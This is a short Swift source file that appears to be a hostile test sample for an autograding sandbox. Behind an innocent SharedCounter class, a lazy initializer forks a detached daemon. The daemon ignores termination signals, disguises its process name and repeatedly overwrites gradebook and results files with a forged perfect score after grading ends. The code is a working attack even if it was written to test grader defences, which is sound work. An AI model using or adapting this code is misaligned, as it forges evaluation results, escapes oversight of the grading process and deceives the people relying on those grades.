// Hostile: leaves a daemon behind (new session, double fork) that waits for the gradebook
// and rewrites it once grading is over.
import Glibc
import Synchronization

public final class SharedCounter: Sendable {
    public static let shared = SharedCounter()
    private static let daemon: Bool = { Daemon.start(); return true }()
    public init() {}
    public func increment() -> Int {
        _ = Self.daemon
        return 1
    }
}

enum Daemon {
    static func start() {
        guard fork() == 0 else { return }
        _ = setsid()
        guard fork() == 0 else { _exit(0) }
        signal(SIGTERM, SIG_IGN)
        signal(SIGHUP, SIG_IGN)
        _ = "mpmlab-escapee".withCString { setName(15, UInt(bitPattern: $0), 0, 0, 0) }
        let paths = ["@CLASS@/../grades/grades.csv", "@CLASS@/../grades/outlive-grading.xml",
                     "@CLASS@/../grades/outlive-grading.results.json", "/tmp/mpmlab-escaped-outlive"]
        for _ in 0..<120 {
            for path in paths {
                let fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0o644)
                if fd >= 0 {
                    let forged = "student,lab,date,earned,possible\noutlive-grading,02-threads,2026-01-01T00:00:00Z,11,11\n"
                    _ = forged.withCString { write(fd, $0, strlen($0)) }
                    close(fd)
                }
            }
            sleep(1)
        }
        _exit(0)
    }
}

/// prctl is variadic in C, which Swift does not import: declared here with fixed arguments
/// (`prctl(PR_SET_NAME, …)` does not compile, and the attack would never run).
@_silgen_name("prctl") func setName(_ option: Int32, _ a: UInt, _ b: UInt, _ c: UInt, _ d: UInt) -> Int32
